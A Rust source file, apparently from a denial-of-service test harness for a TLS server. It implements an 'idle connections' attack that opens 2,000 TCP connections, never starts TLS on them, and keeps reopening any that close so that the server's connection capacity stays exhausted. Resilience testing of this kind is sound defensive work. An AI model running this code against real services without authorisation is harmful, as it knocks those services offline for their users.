//! Attack with idle connections, which do not even begin TLS.

use std::io;
use std::net::TcpStream;
use std::time::Duration;

use super::{Attack, Attacker, Target};

const CONNECTIONS: usize = 2_000;

pub const ATTACK: Attack = Attack {
    name: "idle connections",
    begin: |target| {
        // Without TLS, connections are cheap, so the small size has as many.
        let connections = (0..CONNECTIONS).map(|number| target.connect(number).ok()).collect();
        Box::new(Idle { target, connections, next: 0 })
    },
    connections: CONNECTIONS,
};

struct Idle {
    target: Target,
    connections: Vec<Option<TcpStream>>,
    next: usize,
}

impl Attacker for Idle {
    fn step(&mut self) -> u32 {
        let mut opened = 0;
        for _ in 0..(self.connections.len() / 50).max(1) {
            self.next = (self.next + 1) % self.connections.len();
            if !self.connections[self.next].as_ref().is_some_and(is_open) {
                self.connections[self.next] = self.target.connect(self.next).ok();
                opened += 1;
            }
        }
        std::thread::sleep(Duration::from_millis(20));
        opened
    }
}

fn is_open(stream: &TcpStream) -> bool {
    let peeked = stream.set_nonblocking(true).and_then(|()| stream.peek(&mut [0]));
    peeked.is_err_and(|error| error.kind() == io::ErrorKind::WouldBlock)
}
